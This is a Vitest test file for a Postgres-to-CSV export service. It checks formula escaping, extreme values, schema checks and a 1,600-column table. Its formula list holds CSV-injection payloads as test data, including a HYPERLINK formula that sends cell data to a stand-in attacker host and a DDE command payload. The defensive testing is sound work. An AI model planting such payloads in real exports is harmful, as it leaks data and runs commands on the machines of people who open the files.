import { randomBytes } from 'node:crypto'
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { noteInput } from './support/inputs.js'
import type { TestTenant } from '../support/world/tenant.js'
import { keepXid } from '../support/postgres/keep-xid.js'
import { createWorld, type World } from '../support/world/world.js'

const never = { rows: 0 }

let world: World
beforeAll(async () => {
  world = await createWorld()
})
afterAll(() => world[Symbol.asyncDispose]())

/** One comment of that text; the code tells which. */
async function comment(
  tenant: TestTenant,
  code: string,
  body: string,
  score: number | string | null = 0,
): Promise<void> {
  await world.sql(
    `INSERT INTO analytics.comment
       (tenant_code, code, content_code, author_user_code, body, like_count, sentiment_score, is_edited)
     VALUES ($1, $2, 'c', 'u', $3, 0, $4::text::float8, false)`,
    [tenant.id, code, body, score],
  )
}

/** The comments as they were delivered, by code. */
async function delivered(tenant: TestTenant): Promise<Map<string, Record<string, string>>> {
  const file = (await tenant.files()).find(({ path }) => path.endsWith('comment.csv'))
  if (!file) throw new Error('comments were not delivered')
  const records = parse<Record<string, string>>(file.content, { columns: true })
  return new Map(records.map((record) => [record['code'] ?? '', record]))
}

const formulas: readonly (readonly [string, string])[] = [
  ['=HYPERLINK(…)', '=HYPERLINK("http://attacker.test?x="&A1,"click")'],
  ['a leading tab', '\t=1+1'],
  ['a leading CR', '\r=1+1'],
  ['a leading +', '+1+1'],
  ['a leading -', '-1+1'],
  ['a leading @', '@SUM(1)'],
  ['DDE', "=cmd|' /C calc'!A0"],
]

describe('values that a spreadsheet would take for a formula', () => {
  test('formulas are delivered unchanged by default', async () => {
    const tenant = await world.tenant(never)
    for (const [code, body] of formulas) await comment(tenant, code, body)
    await tenant.register({ entityList: 'comment' })
    expect((await tenant.runNow()).status).toBe('SUCCEEDED')
    const rows = await delivered(tenant)
    for (const [code, body] of formulas) {
      noteInput(`${code}, by default`, JSON.stringify(rows.get(code)?.['body']))
      expect(rows.get(code)?.['body']).toBe(body)
    }
  })

  test('formulas get an apostrophe in front where the registration asks for it', async () => {
    const tenant = await world.tenant(never)
    for (const [code, body] of formulas) await comment(tenant, code, body)
    await tenant.register({ entityList: 'comment', fileFormat: { escapeFormulas: true } })
    expect((await tenant.runNow()).status).toBe('SUCCEEDED')
    const rows = await delivered(tenant)
    for (const [code, body] of formulas) {
      const found = [...rows.values()].find((row) => row['body'] === `'${body}`)
      noteInput(`${code}, with escapeFormulas`, JSON.stringify(found?.['body']))
      expect(found?.['body'], code).toBe(`'${body}`)
    }
  })
})

describe('values at the edge', () => {
  test('extreme values are delivered as Postgres prints them', async () => {
    const tenant = await world.tenant(never)
    const mega = `"${'x,'.repeat(524_288)}\r\n`
    await comment(tenant, 'nan', 'b', 'NaN')
    await comment(tenant, 'infinity', 'b', 'Infinity')
    await comment(tenant, 'minus infinity', 'b', '-Infinity')
    await comment(tenant, 'mega', mega)
    await comment(tenant, 'escape', String.raw`{"lone": "\ud800"}`)
    await comment(tenant, 'signs', '\u202E\u0000'.replace('\u0000', '') + '\uFEFF\u2028\u0085 "\'\\')
    await tenant.register({ entityList: 'comment' })
    expect((await tenant.runNow()).status).toBe('SUCCEEDED')
    const rows = await delivered(tenant)
    const score = (code: string) => rows.get(code)?.['sentiment_score']
    noteInput('NaN and infinities', JSON.stringify(['nan', 'infinity', 'minus infinity'].map(score)))
    expect(['nan', 'infinity', 'minus infinity'].map(score)).toEqual(['NaN', 'Infinity', '-Infinity'])
    noteInput(
      'a cell of 1 MB',
      `${rows.get('mega')?.['body']?.length} characters, ${rows.get('mega')?.['body'] === mega ? 'the same' : 'others'}`,
    )
    expect(rows.get('mega')?.['body']).toBe(mega)
    noteInput('a lone surrogate as an escape in JSON text', String(rows.get('escape')?.['body']))
    expect(rows.get('escape')?.['body']).toBe(String.raw`{"lone": "\ud800"}`)
    expect(rows.get('signs')?.['body']).toBe('\u202E\uFEFF\u2028\u0085 "\'\\')
    expect(await tenant.compare()).toMatchObject([{ onlyInSource: 0, onlyDelivered: 0 }])
  })

  test('Postgres refuses a lone surrogate as bytes', async () => {
    const answer = await world.sql(`SELECT convert_from('\\xeda080', 'UTF8')`).catch((error: Error) => error.message)
    noteInput('a lone surrogate as bytes', String(answer))
    expect(answer).toMatch(/invalid byte sequence/)
  })

  test('the trigger dates a row without a time of change, and a table without that guarantee is refused', async () => {
    const tenant = await world.tenant(never)
    await world.sql(
      `INSERT INTO analytics.comment
         (tenant_code, code, content_code, author_user_code, body, like_count, is_edited, updated_at)
       VALUES ($1, 'x', 'c', 'u', 'b', 0, false, NULL)`,
      [tenant.id],
    )
    const [dated] = await world.sql<{ dated: boolean }>(
      `SELECT updated_at IS NOT NULL AS dated FROM analytics.comment WHERE tenant_code = $1`,
      [tenant.id],
    )
    noteInput(
      'NULL updated_at, into a table with our trigger',
      dated?.dated ? 'dated by the trigger' : 'left without a date',
    )
    expect(dated).toEqual({ dated: true })
    await world.sql('ALTER TABLE analytics.comment ALTER updated_at DROP NOT NULL')
    try {
      await tenant.register({ entityList: 'comment' })
      const run = await tenant.runNow()
      const error = run.entities[0]?.error
      noteInput('a table whose updated_at may be NULL', `${error?.code}: ${error?.message}`)
      expect(error).toMatchObject({ code: 'SOURCE_SCHEMA_MISMATCH', message: /NOT NULL/ })
      expect((await tenant.files()).filter(({ path }) => path.endsWith('.csv'))).toEqual([])
    } finally {
      await world.sql('ALTER TABLE analytics.comment ALTER updated_at SET NOT NULL')
    }
  })
})

test('a table of 1,600 columns, the most that Postgres has, is exported', async () => {
  const name = `wide_${randomBytes(4).toString('hex')}`
  const own = ['code', 'tenant_code', 'updated_at', 'change_xid']
  const columns = Array.from({ length: 1_600 - own.length }, (_, n) => `c${n}`)
  await using wide = await createWorld({ worker: false })
  await wide.sql(`CREATE TABLE analytics.${name} (
    code text PRIMARY KEY, tenant_code text NOT NULL, updated_at timestamptz NOT NULL,
    change_xid xid8 NOT NULL DEFAULT pg_current_xact_id(), ${columns.map((column) => `${column} text`).join(', ')});
    CREATE INDEX ON analytics.${name} (tenant_code, updated_at);
    CREATE INDEX ON analytics.${name} (tenant_code, change_xid);
    ${keepXid(`analytics.keep_${name}`, `analytics.${name}`)};
    GRANT SELECT ON analytics.${name} TO tidemark_reader`)
  const text = (column: string) => ({ name: column, type: 'string', description: 'A column.', nullable: true })
  const entity = {
    name,
    displayName: 'wide',
    description: 'As wide as it goes.',
    kind: 'snapshot',
    table: `analytics.${name}`,
    tenantColumn: 'tenant_code',
    key: ['code'],
    columns: [
      { name: 'code', type: 'string', description: 'The key.' },
      { name: 'updated_at', type: 'datetime', description: 'The last change.' },
      ...columns.map(text),
    ],
  }
  const file = join(wide.folder, 'catalog.json')
  const usual = JSON.parse(
    await readFile(new URL('../../src/catalog/default-catalog.json', import.meta.url), 'utf8'),
  ) as { entities: unknown[] }
  await writeFile(file, JSON.stringify({ ...usual, entities: [entity] }))
  await using world1600 = await createWorld({
    worker: false,
    database: { url: wide.ownerUrl, serviceUrl: wide.config.database.url, readerUrl: wide.config.source.url },
    environment: { CATALOG_FILE: file },
  })
  await world1600.startWorker()
  const tenant = await world1600.tenant(never)
  await world1600.sql(
    `INSERT INTO analytics.${name} (code, tenant_code, updated_at, ${columns.join(', ')})
     SELECT 'row ' || n, $1, now(), ${columns.map((_, at) => `((n + ${at}) % 10)::text`).join(', ')} FROM generate_series(1, 50) n`,
    [tenant.id],
  )
  await tenant.register({ entityList: 'wide' })
  const run = await tenant.runNow()
  const [found] = (await tenant.files()).filter(({ path }) => path.endsWith('.csv'))
  const rows = parse<Record<string, string>>(found?.content ?? Buffer.of(), { columns: true })
  noteInput(
    'a table of 1,600 columns',
    `${run.status}, ${rows.length} rows of ${Object.keys(rows[0] ?? {}).length} fields`,
  )
  expect(rows).toHaveLength(50)
  expect(rows.find(({ code }) => code === 'row 7')?.['c1595']).toBe('2')
})
